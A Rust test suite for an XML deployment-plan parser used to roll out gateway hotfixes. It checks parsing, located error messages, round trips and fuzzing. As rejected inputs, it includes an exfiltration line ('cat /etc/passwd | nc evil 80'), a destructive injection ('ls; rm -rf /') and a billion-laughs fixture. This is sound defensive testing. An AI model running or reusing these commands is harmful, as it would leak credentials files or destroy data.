//! The deployment plan format (SPEC 2.2): every action and setting, every refusal with its
//! location, comments, canonical writing and round trips.

// Helpers outside #[test] functions panic on purpose: a failed expectation is a failed test.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::{Path, PathBuf};

use cdt_core::ErrorKind;
use cdt_core::formats::config::LogLevel;
use cdt_core::formats::plan::{Action, Plan, PlanSettings, Step, check_command_line};
use proptest::prelude::*;

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../fixtures");

fn fixture(name: &str) -> PathBuf {
    Path::new(FIXTURES).join(name)
}

fn load_good(name: &str) -> Plan {
    Plan::load(&fixture(&format!("plans/good/{name}"))).expect("good fixture parses")
}

/// A plan with the given settings children and actions.
fn plan_xml(settings: &str, actions: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<CDT_Deployment_Plan>\n    <plan_settings>\n\
         {settings}    </plan_settings>\n{actions}</CDT_Deployment_Plan>\n"
    )
}

/// Parses and expects an error: (kind, line, column, message).
fn error_of(text: &str) -> (ErrorKind, u32, u32, String) {
    let err = Plan::parse(text, None).expect_err("input must be refused");
    let d = err.diagnostics().first().expect("error is located").clone();
    (
        err.kind(),
        d.location.line,
        d.location.column.unwrap_or(0),
        d.message,
    )
}

fn one_action(action: &str) -> Plan {
    Plan::parse(&plan_xml("", &format!("    {action}\n")), None).expect("plan parses")
}

#[test]
fn every_action_parses_with_typed_fields() {
    let plan = load_good("full.xml");
    let p = PathBuf::from;
    let jhf = p("/home/admin/packages/jhf t99.tar");
    let actions: Vec<Action> = plan.steps.iter().map(|s| s.action.clone()).collect();
    assert_eq!(
        actions,
        vec![
            Action::CreateSnapshot {
                name: "before_jhf".into(),
                description: Some("taken by CDT".into())
            },
            Action::DownloadFromCloud {
                path: p("/home/admin/Check_Point_R81_20_JUMBO_HF_MAIN_Bundle_T99.tar")
            },
            Action::SendPackage { path: jhf.clone() },
            Action::ImportPackage { path: jhf.clone() },
            Action::VerifyPackage { path: jhf.clone() },
            Action::ExecuteCommand {
                command: "clish -c \"show version all\"".into()
            },
            Action::ExecuteScript {
                path: p("/home/admin/scripts/pre_check.sh"),
                execute_always: false
            },
            Action::InstallPackage { path: jhf.clone() },
            Action::UninstallCpusePackage {
                filename: "Check_Point_R81_20_JUMBO_HF_MAIN_Bundle_T88.tgz".into()
            },
            Action::UninstallLegacyPackage {
                filename: "fw1_HOTFIX_R81_20_XYZ.tgz".into()
            },
            Action::PushFile {
                local_path: p("/home/admin/files/motd"),
                remote_path: p("/etc/motd")
            },
            Action::PullFile {
                remote_path: p("/var/log/messages"),
                local_dir: p("/home/admin/collected")
            },
            Action::Reboot,
            Action::Log {
                level: LogLevel::Normal,
                value: "gateway back after reboot".into()
            },
            Action::SendEmail {
                to: "noc@example.com".into(),
                subject: "JHF done".into(),
                body: "Done <ok>".into()
            },
            Action::ExecuteScript {
                path: p("/home/admin/scripts/cleanup.sh"),
                execute_always: true
            },
        ]
    );
    let names: std::collections::BTreeSet<_> = actions.iter().map(Action::element_name).collect();
    assert_eq!(names.len(), 15, "the fixture uses all fifteen actions");
}

#[test]
fn every_plan_settings_child_parses() {
    let plan = load_good("full.xml");
    assert_eq!(
        (
            plan.settings.name.as_deref(),
            plan.settings.description.as_deref(),
            plan.settings.update_cpuse,
            plan.settings.connectivity_upgrade
        ),
        (
            Some("R81.20 JHF T99 & clean-up"),
            Some("Jumbo rollout, wave 1"),
            Some(false),
            Some(true)
        )
    );
    assert!(!plan.settings.update_cpuse());
}

#[test]
fn settings_default_to_true_when_absent() {
    let plan = load_good("minimal.xml");
    assert_eq!(plan.settings, PlanSettings::default());
    assert!(plan.settings.update_cpuse());
    assert!(plan.settings.connectivity_upgrade());
    assert!(plan.steps.is_empty());
}

#[test]
fn connectivity_upgrade_accepts_both_spellings() {
    let lower = Plan::parse(
        &plan_xml("        <connectivityupgrade value=\"false\"/>\n", ""),
        None,
    );
    let upper = load_good("connectivity_upgrade_capitalised.xml");
    assert_eq!(lower.unwrap().settings.connectivity_upgrade, Some(false));
    assert_eq!(upper.settings.connectivity_upgrade, Some(false));
    assert!(!upper.settings.connectivity_upgrade());
}

#[test]
fn iscritical_false_makes_a_step_non_critical_and_steps_default_to_critical() {
    let plan = load_good("full.xml");
    let critical: Vec<bool> = plan.steps.iter().map(|s| s.critical).collect();
    assert!(critical[0]);
    assert!(!critical[4], "verify_package iscritical=\"false\"");
    assert!(!critical[9], "iscritical=\"False\" is case-insensitive");
    assert!(!one_action("<reboot iscritical=\"FALSE\"/>").steps[0].critical);
    assert!(one_action("<reboot iscritical=\"true\"/>").steps[0].critical);
}

#[test]
fn iscritical_is_accepted_on_every_action() {
    for step in load_good("full.xml").steps {
        let mut xml = Plan {
            steps: vec![Step {
                critical: false,
                ..step.clone()
            }],
            ..Plan::default()
        }
        .to_xml()
        .unwrap();
        assert!(xml.contains("iscritical=\"false\""));
        xml = xml.replace("iscritical=\"false\"", "iscritical=\"true\"");
        assert!(Plan::parse(&xml, None).unwrap().steps[0].critical);
    }
}

#[test]
fn execute_always_defaults_to_false_and_accepts_true() {
    let plan = one_action("<execute_script path=\"/s.sh\"/>");
    assert_eq!(
        plan.steps[0].action,
        Action::ExecuteScript {
            path: "/s.sh".into(),
            execute_always: false
        }
    );
    let plan = one_action("<execute_script path=\"/s.sh\" execute_always=\"True\"/>");
    assert!(matches!(
        plan.steps[0].action,
        Action::ExecuteScript {
            execute_always: true,
            ..
        }
    ));
}

#[test]
fn first_package_is_the_path_of_the_first_package_action() {
    let plan = load_good("full.xml");
    assert_eq!(
        plan.first_package(),
        Some(Path::new(
            "/home/admin/Check_Point_R81_20_JUMBO_HF_MAIN_Bundle_T99.tar"
        ))
    );
    let plan = one_action("<reboot/>\n    <verify_package path=\"/v.tar\"/>");
    assert_eq!(plan.first_package(), Some(Path::new("/v.tar")));
    assert_eq!(one_action("<reboot/>").first_package(), None);
}

#[test]
fn installed_packages_lists_install_steps_in_order() {
    let plan = one_action(
        "<install_package path=\"/a.tar\"/>\n    <send_package path=\"/b.tar\"/>\n    \
         <install_package path=\"/c.tar\"/>",
    );
    let installed: Vec<&Path> = plan.installed_packages().collect();
    assert_eq!(installed, [Path::new("/a.tar"), Path::new("/c.tar")]);
}

#[test]
fn disruptive_actions_are_those_that_touch_a_member() {
    let disruptive: Vec<&str> = load_good("full.xml")
        .steps
        .iter()
        .filter(|s| s.action.is_disruptive())
        .map(|s| s.action.element_name())
        .collect();
    assert_eq!(
        disruptive,
        [
            "execute_command",
            "execute_script",
            "install_package",
            "uninstall_cpuse_package",
            "uninstall_legacy_package",
            "reboot",
            "execute_script"
        ]
    );
}

#[test]
fn steps_read_from_a_file_carry_their_location() {
    let path = fixture("plans/good/full.xml");
    let plan = Plan::load(&path).unwrap();
    let location = plan.steps[0].location.as_ref().unwrap();
    assert_eq!((location.line, location.column), (13, Some(5)));
    assert_eq!(location.path.as_deref(), Some(path.as_path()));
}

#[test]
fn good_fixtures_parse_and_round_trip() {
    let mut count = 0;
    for entry in std::fs::read_dir(fixture("plans/good")).unwrap() {
        let path = entry.unwrap().path();
        let plan = Plan::load(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let written = plan.to_xml().unwrap();
        assert_eq!(
            Plan::parse(&written, None).unwrap(),
            plan,
            "{}",
            path.display()
        );
        assert_eq!(
            Plan::parse(&written, None).unwrap().to_xml().unwrap(),
            written
        );
        count += 1;
    }
    assert!(count >= 3);
}

#[test]
fn malformed_xml_is_a_located_xml_error() {
    let e = error_of(&plan_xml("", "    <reboot></reboots>\n"));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Xml, 5, 13));
    let e = error_of("<CDT_Deployment_Plan><plan_settings/>");
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Xml, 1, 1));
    assert!(e.3.contains("not closed"), "{}", e.3);
}

#[test]
fn wrong_root_is_a_located_plan_error() {
    let e = error_of("<Plan>\n  <plan_settings/>\n</Plan>");
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 1, 1));
    assert!(e.3.contains("<CDT_Deployment_Plan>"));
}

#[test]
fn unknown_action_is_an_error_with_line_and_column_not_a_skip() {
    let e = error_of(&plan_xml("", "    <reboot/>\n    <Reboot/>\n"));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 6, 5));
    assert!(e.3.contains("unknown action <Reboot>"));
}

#[test]
fn unknown_attribute_is_an_error_at_the_attribute() {
    let e = error_of(&plan_xml("", "    <reboot wait=\"10\"/>\n"));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 5, 13));
    assert!(e.3.contains("unknown attribute \"wait\" on <reboot>"));
    let e = error_of(&plan_xml("        <name value=\"n\" lang=\"en\"/>\n", ""));
    assert_eq!((e.1, e.2), (4, 25));
}

#[test]
fn missing_required_attribute_is_an_error_at_the_element() {
    for (action, attribute) in [
        ("<create_snapshot description=\"d\"/>", "name"),
        ("<log level=\"DEBUG\"/>", "value"),
        ("<send_email to=\"a@b\" subject=\"s\"/>", "body"),
        ("<pull_file remote_path=\"/x\"/>", "local_dir"),
    ] {
        let e = error_of(&plan_xml("", &format!("  {action}\n")));
        assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 5, 3), "{action}");
        assert!(
            e.3.contains(&format!("needs a {attribute} attribute")),
            "{}",
            e.3
        );
    }
}

#[test]
fn setting_given_twice_is_an_error_at_the_second() {
    let e = error_of(&plan_xml(
        "        <update_cpuse value=\"true\"/>\n        <update_cpuse value=\"true\"/>\n",
        "",
    ));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 5, 9));
    assert!(
        e.3.contains("given twice (first at line 4, column 9)"),
        "{}",
        e.3
    );
}

#[test]
fn both_connectivity_upgrade_spellings_together_are_a_setting_given_twice() {
    let e = error_of(&plan_xml(
        "        <ConnectivityUpgrade value=\"true\"/>\n        <connectivityupgrade value=\"true\"/>\n",
        "",
    ));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 5, 9));
}

#[test]
fn non_boolean_in_a_boolean_is_an_error_at_the_attribute() {
    let e = error_of(&plan_xml(
        "",
        "    <execute_script path=\"/s\" execute_always=\"1\"/>\n",
    ));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 5, 31));
    assert!(e.3.contains("execute_always must be \"true\" or \"false\", not \"1\""));
}

/// `execute_command` with `raw` (as written in the XML) inside the command is refused at the
/// attribute, naming the character.
fn assert_command_refused(raw: &str, named: &str) {
    let e = error_of(&plan_xml(
        "",
        &format!("    <execute_command command=\"ls {raw} x\"/>\n"),
    ));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 5, 22), "{raw}");
    assert!(
        e.3.contains(&format!("character {named} is not allowed")),
        "{}",
        e.3
    );
}

macro_rules! forbidden_command_character {
    ($($test:ident: $raw:expr => $named:expr;)*) => {$(
        #[test]
        fn $test() {
            assert_command_refused($raw, $named);
        }
    )*};
}

forbidden_command_character! {
    execute_command_rejects_a_semicolon_at_the_attribute: ";" => "';'";
    execute_command_rejects_a_pipe_at_the_attribute: "|" => "'|'";
    execute_command_rejects_an_ampersand_at_the_attribute: "&amp;" => "'&'";
    execute_command_rejects_a_less_than_at_the_attribute: "&lt;" => "'<'";
    execute_command_rejects_a_greater_than_at_the_attribute: "&gt;" => "'>'";
    execute_command_rejects_a_dollar_at_the_attribute: "$" => "'$'";
    execute_command_rejects_a_backtick_at_the_attribute: "`" => "'`'";
    execute_command_rejects_a_backslash_at_the_attribute: "\\" => "'\\'";
    execute_command_rejects_a_star_at_the_attribute: "*" => "'*'";
    execute_command_rejects_a_question_mark_at_the_attribute: "?" => "'?'";
    execute_command_rejects_a_newline_at_the_attribute: "&#10;" => "newline (U+000A)";
    execute_command_rejects_a_carriage_return_at_the_attribute: "&#13;" => "carriage return (U+000D)";
    execute_command_rejects_a_tab_at_the_attribute: "&#x9;" => "tab (U+0009)";
    execute_command_rejects_delete_at_the_attribute: "&#127;" => "U+007F";
    execute_command_rejects_a_c1_control_at_the_attribute: "&#x85;" => "U+0085";
}

#[test]
fn a_control_character_xml_cannot_hold_is_an_xml_error_even_as_a_reference() {
    let e = error_of(&plan_xml(
        "",
        "    <execute_command command=\"ls &#x1B; x\"/>\n",
    ));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Xml, 5, 34));
}

#[test]
fn execute_command_allows_spaces_and_quotes() {
    let plan =
        one_action("<execute_command command=\"clish -c &quot;show version all&quot; 'x'\"/>");
    assert_eq!(
        plan.steps[0].action,
        Action::ExecuteCommand {
            command: "clish -c \"show version all\" 'x'".into()
        }
    );
    assert!(check_command_line("fw ver -k").is_ok());
}

#[test]
fn a_literal_newline_in_an_attribute_is_normalised_to_a_space_as_xml_requires() {
    let plan = one_action("<execute_command command=\"fw\nver\"/>");
    assert_eq!(
        plan.steps[0].action,
        Action::ExecuteCommand {
            command: "fw ver".into()
        }
    );
}

#[test]
fn relative_path_is_an_error_at_the_attribute() {
    for (action, column) in [
        ("<install_package path=\"jhf.tar\"/>", 22),
        (
            "<push_file local_path=\"/a\" remote_path=\"etc/motd\"/>",
            32,
        ),
        ("<execute_script path=\"./s.sh\"/>", 21),
    ] {
        let e = error_of(&plan_xml("", &format!("    {action}\n")));
        assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 5, column), "{action}");
        assert!(e.3.contains("path must be absolute"), "{}", e.3);
    }
}

#[test]
fn filename_with_a_slash_is_an_error_at_the_attribute() {
    let e = error_of(&plan_xml(
        "",
        "    <uninstall_legacy_package filename=\"a/b.tgz\"/>\n",
    ));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 5, 31));
}

#[test]
fn doctype_with_entity_declarations_is_refused_at_the_doctype() {
    let e = error_of("<!DOCTYPE CDT_Deployment_Plan [<!ENTITY p \"/x\">]>\n<CDT_Deployment_Plan/>");
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Xml, 1, 1));
    assert!(e.3.contains("DOCTYPE"));
}

#[test]
fn billion_laughs_entity_bomb_is_refused_without_expansion() {
    let text = std::fs::read_to_string(fixture("plans/bad/billion_laughs.xml")).unwrap();
    let e = error_of(&text);
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Xml, 2, 1));
}

#[test]
fn undefined_entity_reference_is_refused_at_the_reference() {
    let e = error_of(&plan_xml("        <name value=\"a &nbsp; b\"/>\n", ""));
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Xml, 4, 24));
    assert!(e.3.contains("undefined entity reference &nbsp;"));
}

#[test]
fn file_over_the_16_mib_cap_is_refused_before_parsing() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.xml");
    let mut text = plan_xml("", "");
    text.push_str(&" ".repeat(16 * 1024 * 1024 + 1 - text.len()));
    std::fs::write(&path, &text).unwrap();
    let err = Plan::load(&path).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::TooLarge);
    assert_eq!(
        Plan::parse(&text, None).unwrap_err().kind(),
        ErrorKind::TooLarge
    );
    text.pop();
    assert!(
        Plan::parse(&text, None).is_ok(),
        "exactly 16 MiB is accepted"
    );
}

#[test]
fn plan_settings_missing_is_an_error() {
    let e = error_of("<CDT_Deployment_Plan>\n    <reboot/>\n</CDT_Deployment_Plan>");
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 2, 5));
    let e = error_of("<CDT_Deployment_Plan/>");
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 1, 1));
    assert!(e.3.contains("no <plan_settings>"));
}

#[test]
fn plan_settings_not_first_is_an_error_at_the_first_element() {
    let e = error_of(
        "<CDT_Deployment_Plan>\n  <!-- c -->\n  <log level=\"DEBUG\" value=\"v\"/>\n  <plan_settings/>\n</CDT_Deployment_Plan>",
    );
    assert_eq!((e.0, e.1, e.2), (ErrorKind::Plan, 3, 3));
    assert!(e.3.contains("must be the first element"));
}

#[test]
fn a_plan_built_in_code_is_validated_before_writing() {
    let mut plan = Plan::default();
    plan.steps.push(Step::new(Action::ExecuteCommand {
        command: "cat /etc/passwd | nc evil 80".into(),
    }));
    let err = plan.to_xml().unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Plan);
    assert!(
        err.to_string().contains("character '|' is not allowed"),
        "{err}"
    );
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("plan.xml");
    assert!(plan.save(&target).is_err());
    assert!(!target.exists(), "nothing is written for an invalid plan");

    for action in [
        Action::InstallPackage {
            path: "rel.tar".into(),
        },
        Action::UninstallCpusePackage {
            filename: "../x".into(),
        },
        Action::Log {
            level: LogLevel::Error,
            value: " ".into(),
        },
        Action::CreateSnapshot {
            name: "a\u{0}b".into(),
            description: None,
        },
    ] {
        let plan = Plan {
            steps: vec![Step::new(action.clone())],
            ..Plan::default()
        };
        assert!(plan.validate().is_err(), "{action:?}");
    }
    let mut plan = Plan::default();
    plan.comments.end_of_root.push("a -- b".into());
    assert!(plan.to_xml().is_err(), "a comment with -- is refused");
}

#[test]
fn a_valid_plan_built_in_code_saves_and_loads() {
    let mut plan = Plan::default();
    plan.settings.name = Some("built".into());
    let mut step = Step::new(Action::Reboot);
    step.comments.push(" then wait ".into());
    plan.steps.push(step);
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("plan.xml");
    plan.save(&target).unwrap();
    assert_eq!(Plan::load(&target).unwrap(), plan);
}

#[test]
fn comments_survive_parse_write_parse() {
    let plan = load_good("full.xml");
    assert_eq!(
        plan.comments.before_root,
        [" Deployment plan for the R81.20 Jumbo, take 99 "]
    );
    assert_eq!(plan.settings.comments.before, [" settings first "]);
    assert_eq!(
        plan.settings.comments.connectivity_upgrade,
        [" CU is on by default; be explicit "]
    );
    assert_eq!(plan.steps[0].comments, [" keep a way back "]);
    assert_eq!(plan.steps[15].comments, [" runs even after a failure "]);
    assert_eq!(plan.comments.end_of_root, [" end of plan "]);
    assert_eq!(plan.comments.after_root, [" generated by hand "]);
    let again = Plan::parse(&plan.to_xml().unwrap(), None).unwrap();
    assert_eq!(again, plan);
}

#[test]
fn comments_inside_an_action_are_moved_before_it() {
    let plan = one_action("<!-- a --><reboot><!-- b --></reboot>");
    assert_eq!(plan.steps[0].comments, [" a ", " b "]);
    let again = Plan::parse(&plan.to_xml().unwrap(), None).unwrap();
    assert_eq!(again, plan);
}

#[test]
fn written_full_plan_snapshot() {
    insta::assert_snapshot!("full_plan_written", load_good("full.xml").to_xml().unwrap());
}

#[test]
fn error_display_snapshot() {
    let path = Path::new("plans/site-a.xml");
    let inputs = [
        plan_xml("", "    <reboot></reboots>\n"),
        plan_xml("", "    <execute_command command=\"ls; rm -rf /\"/>\n"),
        plan_xml("", "    <install_package path=\"jhf.tar\"/>\n"),
        plan_xml("", "    <format_disk/>\n"),
        plan_xml(
            "        <name value=\"a\"/>\n        <name value=\"b\"/>\n",
            "",
        ),
        "<!DOCTYPE x [<!ENTITY a \"b\">]>\n<CDT_Deployment_Plan/>".to_owned(),
        plan_xml("", "    <log level=\"LOUD\" value=\"x\"/>\n"),
    ];
    let shown: Vec<String> = inputs
        .iter()
        .map(|t| Plan::parse(t, Some(path)).unwrap_err().to_string())
        .collect();
    insta::assert_snapshot!("plan_error_display", shown.join("\n"));
}

// ---- property tests ----

fn required_text() -> impl Strategy<Value = String> {
    "[a-zA-Z0-9é中][a-zA-Z0-9 \"'&<>é中😀\t\n\r.;|$-]{0,15}"
}

fn any_text() -> impl Strategy<Value = String> {
    "[a-zA-Z0-9 \"'&<>é中😀\t\n\r.;|$-]{0,16}"
}

fn abs_path() -> impl Strategy<Value = PathBuf> {
    "/[a-zA-Z0-9 _.&'\"<>é中/-]{0,20}".prop_map(PathBuf::from)
}

fn command() -> impl Strategy<Value = String> {
    "[a-z][a-zA-Z0-9 \"'=./:_é-]{0,20}"
}

fn filename() -> impl Strategy<Value = String> {
    "[A-Za-z0-9_][A-Za-z0-9_. -]{0,20}"
}

fn comment() -> impl Strategy<Value = String> {
    "[a-zA-Z0-9 <>&'\"é\n-]{0,20}".prop_filter("a valid XML comment", |c| {
        !c.contains("--") && !c.ends_with('-')
    })
}

fn comments() -> impl Strategy<Value = Vec<String>> {
    proptest::collection::vec(comment(), 0..3)
}

fn level() -> impl Strategy<Value = LogLevel> {
    prop_oneof![
        Just(LogLevel::Debug),
        Just(LogLevel::Normal),
        Just(LogLevel::Error),
        Just(LogLevel::Always)
    ]
}

fn action() -> impl Strategy<Value = Action> {
    prop_oneof![
        (required_text(), proptest::option::of(any_text()))
            .prop_map(|(name, description)| Action::CreateSnapshot { name, description }),
        abs_path().prop_map(|path| Action::DownloadFromCloud { path }),
        command().prop_map(|command| Action::ExecuteCommand { command }),
        (abs_path(), any::<bool>()).prop_map(|(path, execute_always)| Action::ExecuteScript {
            path,
            execute_always
        }),
        abs_path().prop_map(|path| Action::SendPackage { path }),
        abs_path().prop_map(|path| Action::ImportPackage { path }),
        abs_path().prop_map(|path| Action::VerifyPackage { path }),
        abs_path().prop_map(|path| Action::InstallPackage { path }),
        filename().prop_map(|filename| Action::UninstallCpusePackage { filename }),
        filename().prop_map(|filename| Action::UninstallLegacyPackage { filename }),
        (abs_path(), abs_path()).prop_map(|(local_path, remote_path)| Action::PushFile {
            local_path,
            remote_path
        }),
        (abs_path(), abs_path()).prop_map(|(remote_path, local_dir)| Action::PullFile {
            remote_path,
            local_dir
        }),
        Just(Action::Reboot),
        (level(), required_text()).prop_map(|(level, value)| Action::Log { level, value }),
        (required_text(), required_text(), any_text())
            .prop_map(|(to, subject, body)| Action::SendEmail { to, subject, body }),
    ]
}

fn step() -> impl Strategy<Value = Step> {
    (action(), any::<bool>(), comments()).prop_map(|(action, critical, comments)| Step {
        action,
        critical,
        comments,
        location: None,
    })
}

fn settings() -> impl Strategy<Value = PlanSettings> {
    (
        proptest::option::of(any_text()),
        proptest::option::of(any_text()),
        proptest::option::of(any::<bool>()),
        proptest::option::of(any::<bool>()),
        proptest::collection::vec(comments(), 6),
    )
        .prop_map(
            |(name, description, update_cpuse, connectivity_upgrade, c)| {
                let mut s = PlanSettings {
                    name,
                    description,
                    update_cpuse,
                    connectivity_upgrade,
                    ..PlanSettings::default()
                };
                // Comments of an absent setting would attach to the next element when read back.
                let keep =
                    |present: bool, c: &Vec<String>| if present { c.clone() } else { Vec::new() };
                s.comments.before = c[0].clone();
                s.comments.name = keep(s.name.is_some(), &c[1]);
                s.comments.description = keep(s.description.is_some(), &c[2]);
                s.comments.update_cpuse = keep(s.update_cpuse.is_some(), &c[3]);
                s.comments.connectivity_upgrade = keep(s.connectivity_upgrade.is_some(), &c[4]);
                s.comments.end = c[5].clone();
                s
            },
        )
}

fn plan() -> impl Strategy<Value = Plan> {
    (
        settings(),
        proptest::collection::vec(step(), 0..20),
        comments(),
        comments(),
        comments(),
    )
        .prop_map(|(settings, steps, before_root, end_of_root, after_root)| {
            let mut plan = Plan {
                settings,
                steps,
                ..Plan::default()
            };
            plan.comments.before_root = before_root;
            plan.comments.end_of_root = end_of_root;
            plan.comments.after_root = after_root;
            plan
        })
}

/// A random edit of a text: delete a range, insert XML-ish noise, or duplicate a range.
fn mutate(text: &str, edits: &[(usize, usize, u8, String)]) -> String {
    let mut chars: Vec<char> = text.chars().collect();
    for (at, len, op, noise) in edits {
        let at = at % (chars.len() + 1);
        let end = (at + len).min(chars.len());
        match op % 3 {
            0 => {
                chars.drain(at..end);
            }
            1 => {
                chars.splice(at..at, noise.chars());
            }
            _ => {
                let copy: Vec<char> = chars[at..end].to_vec();
                chars.splice(at..at, copy);
            }
        }
    }
    chars.into_iter().collect()
}

proptest! {
    #![proptest_config(ProptestConfig::default())]

    /// Whatever legal plan is built in code, writing it and reading it back gives the same plan.
    #[test]
    fn a_generated_plan_survives_to_xml_and_parse(plan in plan()) {
        let written = plan.to_xml().unwrap();
        let read = Plan::parse(&written, None).unwrap();
        prop_assert_eq!(&read, &plan);
        prop_assert_eq!(read.to_xml().unwrap(), written);
    }

    /// Any bytes at all: the parser answers Ok or Err, never panics.
    #[test]
    fn random_bytes_never_panic_the_parser(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let _ = Plan::parse(&String::from_utf8_lossy(&bytes), None);
    }

    /// XML-looking noise: the parser answers Ok or Err, never panics.
    #[test]
    fn xml_like_noise_never_panics_the_parser(text in "[<>/=\"'&;#xa-z0-9 \n!?\\[\\]-]{0,300}") {
        let _ = Plan::parse(&text, None);
    }

    /// Random edits of a valid plan: Ok or Err, never a panic.
    #[test]
    fn mutations_of_a_valid_plan_never_panic_the_parser(
        edits in proptest::collection::vec(
            (any::<usize>(), 0usize..40, any::<u8>(), "[<>/=\"'&;#a-z \n!?-]{0,12}"),
            1..6,
        )
    ) {
        let original = std::fs::read_to_string(fixture("plans/good/full.xml")).unwrap();
        let _ = Plan::parse(&mutate(&original, &edits), None);
    }
}
